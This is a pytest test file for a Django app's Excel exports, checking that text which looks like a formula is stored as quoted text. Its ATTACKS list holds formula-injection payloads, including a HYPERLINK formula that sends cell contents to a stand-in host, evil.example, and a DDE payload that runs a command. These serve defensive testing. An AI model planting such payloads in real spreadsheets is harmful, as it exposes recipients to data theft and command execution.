"""Every spreadsheet the app writes keeps text as text: a cell a spreadsheet
would read as a formula (=, +, -, @, tab, CR, LF first) is written as a
quoted text cell, in the issue and visit lists, the master-data exports and
the bulletin alike."""

import datetime
import io

from django.urls import reverse
from openpyxl import load_workbook

from core.exports import safe_cells
from issues import bulletins
from issues.models import Issue

ATTACKS = ['=HYPERLINK("http://evil.example/?"&A1,"点此")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)", "\t=1"]


def cells(response_or_bytes, sheet=None):
    raw = response_or_bytes if isinstance(response_or_bytes, bytes) else b"".join(response_or_bytes.streaming_content)
    book = load_workbook(io.BytesIO(raw))
    return [cell for row in (book[sheet] if sheet else book.active).iter_rows() for cell in row]


def test_text_that_looks_like_a_formula_is_written_as_text():
    from openpyxl import Workbook

    book = Workbook()
    sheet = book.active
    sheet.append(safe_cells(sheet, [*ATTACKS, "普通文字", 42, -3]))
    buffer = io.BytesIO()
    book.save(buffer)
    written = cells(buffer.getvalue())
    assert [cell.value for cell in written] == [*ATTACKS, "普通文字", 42, -3]
    assert all(cell.data_type == "s" and cell.quotePrefix for cell in written[: len(ATTACKS)])
    assert [cell.data_type for cell in written[len(ATTACKS) :]] == ["s", "n", "n"]


def test_no_export_carries_a_formula(client, world, make_issue, settings, tmp_path):
    settings.MEDIA_ROOT = tmp_path
    issue = make_issue("in_progress")
    Issue.objects.filter(pk=issue.pk).update(title=ATTACKS[0], request=ATTACKS[1], due_date="2026-05-20")
    world.enterprise_a.address = ATTACKS[1]
    world.enterprise_a.save()
    client.force_login(world.admin)
    exports = {
        "issues": client.get(reverse("issue-export")),
        "enterprises": client.get(reverse("master-export", args=["enterprises"])),
    }
    for name, response in exports.items():
        written = cells(response)
        risky = [cell for cell in written if isinstance(cell.value, str) and cell.value.startswith(("=", "+"))]
        assert risky, name  # the attack reached the file …
        assert all(cell.data_type == "s" for cell in risky), name  # … as text
    bulletin = bulletins.bulletin_make(
        actor=world.supervisor_a, region=world.county_a, start=datetime.date(2026, 6, 1), end=datetime.date(2026, 6, 30)
    )
    overdue = cells(bulletin.file.read(), "逾期问题")
    titles = [cell for cell in overdue if cell.value == ATTACKS[0]]
    assert titles and all(cell.data_type == "s" for cell in titles)


def test_the_workbook_keeps_every_kind_of_value(settings):
    """What write_xlsx writes is what a spreadsheet reads back: text (a
    formula's look quoted, white space at either end kept, characters XML
    cannot carry dropped), numbers, booleans, dates, and datetimes as the
    wall-clock time in Asia/Shanghai; None and "" as empty cells."""
    import decimal

    from core.exports import write_xlsx

    moment = datetime.datetime(2026, 6, 1, 1, 30, 15, tzinfo=datetime.UTC)  # 09:30:15 in Shanghai
    values = [
        "普通 <&> 文字",
        "=1+1",
        "  两端空格  ",
        "控制\x07字符",
        42,
        -3.25,
        decimal.Decimal("12.50"),
        True,
        datetime.date(2026, 5, 20),
        moment,
        datetime.datetime(2026, 5, 20, 8, 0),
        None,
        "",
        "末尾",
    ]
    buffer = io.BytesIO()
    assert write_xlsx(buffer, sheet="问题[列表]", headers=["甲", "乙"], rows=[values, ["x"]]) == 2
    book = load_workbook(io.BytesIO(buffer.getvalue()))
    sheet = book.active
    assert sheet.title == "问题 列表"
    header, row, short = list(sheet.iter_rows())
    assert [cell.value for cell in header[:3]] == ["甲", "乙", None] and header[0].font.b
    assert [cell.value for cell in row] == [
        "普通 <&> 文字",
        "=1+1",
        "  两端空格  ",
        "控制字符",
        42,
        -3.25,
        12.5,
        True,
        datetime.datetime(2026, 5, 20),
        datetime.datetime(2026, 6, 1, 9, 30, 15),
        datetime.datetime(2026, 5, 20, 8, 0),
        None,
        None,
        "末尾",
    ]
    assert row[1].data_type == "s" and row[1].quotePrefix and not row[0].quotePrefix
    assert row[8].number_format == "yyyy-mm-dd" and row[9].number_format == "yyyy-mm-dd h:mm:ss"
    assert [cell.value for cell in short[:2]] == ["x", None]
    assert book.sheetnames == ["问题 列表"]


def test_an_export_streams_from_a_file_in_constant_memory(client, world, make_issue):
    """The issue export is written to a temporary file and streamed from it."""
    make_issue("in_progress")
    client.force_login(world.admin)
    response = client.get(reverse("issue-export"))
    assert response.streaming and response["Content-Type"].startswith("application/vnd.openxmlformats")
    rows = list(load_workbook(io.BytesIO(b"".join(response.streaming_content))).active.iter_rows(values_only=True))
    assert len(rows) == 2
